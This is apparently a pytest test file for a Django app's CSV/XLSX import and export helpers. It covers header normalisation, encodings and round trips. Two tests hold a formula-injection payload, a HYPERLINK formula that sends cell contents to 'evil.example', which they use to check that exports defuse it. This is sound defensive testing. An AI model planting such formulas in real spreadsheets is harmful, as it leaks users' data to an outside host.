import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from immersion.common.tabular import TabularError, normalise_header, read_table, write_table


def test_headers_are_normalised_without_accents_or_punctuation():
    assert normalise_header(" Régime alimentaire ") == "regime_alimentaire"
    assert normalise_header("E-mail") == "e_mail"
    assert normalise_header("Besoins d'accessibilité") == "besoins_d_accessibilite"


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_csv_delimiter_is_detected(delimiter):
    data = delimiter.join(["Nom", "Prénom"]) + "\n" + delimiter.join(["Le Goff", "Anne"]) + "\n"
    rows = read_table(SimpleUploadedFile("a.csv", data.encode()))
    assert rows[0].values == {"nom": "Le Goff", "prenom": "Anne"}
    assert rows[0].line == 2


def test_windows_encoded_csv_is_read():
    rows = read_table(
        SimpleUploadedFile("a.csv", "Nom;Ville\nHervé;Saint-Brieuc\n".encode("cp1252"))
    )
    assert rows[0].get("nom") == "Hervé"


def test_blank_lines_are_skipped_but_line_numbers_kept():
    rows = read_table(SimpleUploadedFile("a.csv", b"Nom\nA\n\nB\n"))
    assert [(r.line, r.get("nom")) for r in rows] == [(2, "A"), (4, "B")]


def test_unknown_extension_is_refused():
    with pytest.raises(TabularError, match="non pris en charge"):
        read_table(SimpleUploadedFile("a.pdf", b"%PDF-1.4"))


def test_xlsx_round_trip():
    content = write_table("xlsx", ["Nom", "Code"], [["Le Goff", "01053"]])
    rows = read_table(SimpleUploadedFile("a.xlsx", content))
    assert rows[0].values == {"nom": "Le Goff", "code": "01053"}


def test_csv_export_opens_in_french_excel():
    content = write_table("csv", ["Nom"], [["Hervé"]])
    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8-sig") == "Nom\r\nHervé\r\n"


FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def xlsx_sheet_xml(content: bytes) -> str:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_csv_export_defuses_text_a_spreadsheet_would_run_as_a_formula(prefix):
    value = f'{prefix}HYPERLINK("http://evil.example/?"&C2&C3,"Menu")'
    content = write_table("csv", ["Fonction"], [[value]])
    cells = content.decode("utf-8-sig").split("\r\n", 1)[1]
    assert cells.lstrip('"').startswith(f"'{prefix}")


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_xlsx_export_writes_formula_like_text_as_a_text_cell(prefix):
    value = f'{prefix}HYPERLINK("http://evil.example/?"&C2&C3,"Menu")'
    content = write_table("xlsx", ["Fonction"], [[value]])
    xml = xlsx_sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml
    assert 'r="A2" t="inlineStr"' in xml or 'r="A2" t="s"' in xml
    [row] = read_table(SimpleUploadedFile("a.xlsx", content))
    assert row.get("fonction") == value.strip()


def test_numbers_stay_numbers_in_both_formats():
    csv_text = write_table("csv", ["Longitude", "Distance"], [[-1.6938, 30]]).decode("utf-8-sig")
    assert csv_text.endswith("-1.6938;30\r\n")
    xml = xlsx_sheet_xml(write_table("xlsx", ["Longitude"], [[-1.6938]]))
    assert '<c r="A2" t="n"><v>-1.6938</v></c>' in xml


@pytest.mark.parametrize("value", ["+33 6 12 34 56 78", "=1+1", "-", "@nantes", "'+déjà"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_text_reads_back_as_it_was_written(fmt, value):
    content = write_table(fmt, ["Nom", "Note"], [["Anne", value]])
    [row] = read_table(SimpleUploadedFile(f"a.{fmt}", content))
    assert row.get("note") == value


def test_an_apostrophe_typed_by_someone_is_kept():
    [row] = read_table(SimpleUploadedFile("a.csv", "Nom\n'Abbé\n".encode()))
    assert row.get("nom") == "'Abbé"


def test_control_characters_do_not_break_the_xlsx_export():
    content = write_table("xlsx", ["Nom"], [["Anne\x07\x1b Rouxel"]])
    [row] = read_table(SimpleUploadedFile("a.xlsx", content))
    assert row.get("nom") == "Anne Rouxel"
